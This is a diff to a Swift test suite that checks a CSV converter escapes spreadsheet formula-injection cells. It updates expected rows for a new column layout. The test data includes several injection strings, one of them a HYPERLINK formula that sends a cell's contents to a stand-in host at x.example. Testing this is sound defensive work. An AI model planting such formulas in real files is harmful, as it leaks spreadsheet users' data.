@@ -55,7 +55,7 @@ struct SpreadsheetAndTerminalSafetyTests {
         let scratch = try Scratch()
         try scratch.folder("in")
         try scratch.write("in/hostile.csv", Self.hostile)
-        let asRead = Canonical.header + ",Opmerking,=Kop\n" + "e,E,\"Beheren =10+10,=11+11\",=13+13,steering,,1,x,,,,,,,y,z,w\n"
+        let asRead = Canonical.layout1Header + ",Opmerking,=Kop\n" + "e,E,\"Beheren =10+10,=11+11\",=13+13,steering,,1,x,,,,,,,y,z,w\n"
         _ = try scratch.cora("convert", "in/hostile.csv", "--to", "csv", "-o", "out.csv", "--rejects", "plain.csv")
         #expect(try scratch.read("plain.csv") == Array(asRead.utf8))
         _ = try scratch.cora("batch", "in", "--out", "csv", "--to", "csv")
@@ -94,12 +94,15 @@ struct SpreadsheetAndTerminalSafetyTests {
         #expect(excel.rows.count == 5)
         #expect(excel.rows.first?.last == "'=Kop")
         let empty = Array(repeating: "", count: 6)
+        let layout2 = Array(repeating: "", count: 4)  // requirements, steers, reports-to, pdca-phase
         #expect(Array(excel.rows.dropFirst()) == [
             ["a", "A", "Verhuren eenheden", "business-process", "steering", "", "1", "'=HYPERLINK(\"http://x.example/?\"&A1;\"klik\")"]
-                + empty + ["a,'=1+1", "'-5", "'@SUM(1)"],
-            ["b", "B", "Innen huur", "business-process", "steering", "", "1", "' =2+2"] + empty + ["x;'@SUM(1)", "'＝3+3", "'+31 6 1234"],
-            ["c", "C", "Beheren sleutels", "business-process", "steering", "", "1", "'\u{A0}=4+4"] + empty + ["regel\n'=5+5", "''=6+6", "a,' -7"],
-            ["d", "D", "Plannen onderhoud", "business-process", "steering", "", "1", "'\t=12+12"] + empty + ["a,'\"=8+8", "'\"=9+9", "'al"],
+                + empty + ["a,'=1+1"] + layout2 + ["'-5", "'@SUM(1)"],
+            ["b", "B", "Innen huur", "business-process", "steering", "", "1", "' =2+2"] + empty + ["x;'@SUM(1)"] + layout2 + ["'＝3+3", "'+31 6 1234"],
+            ["c", "C", "Beheren sleutels", "business-process", "steering", "", "1", "'\u{A0}=4+4"] + empty + ["regel\n'=5+5"] + layout2
+                + ["''=6+6", "a,' -7"],
+            ["d", "D", "Plannen onderhoud", "business-process", "steering", "", "1", "'\t=12+12"] + empty + ["a,'\"=8+8"] + layout2
+                + ["'\"=9+9", "'al"],
         ])
         let rejects = try #require(sheets["rejects.csv"]?[Calc.comma])
         #expect(rejects.rows.count == 2 && rejects.rows[0].last == "'=Kop")
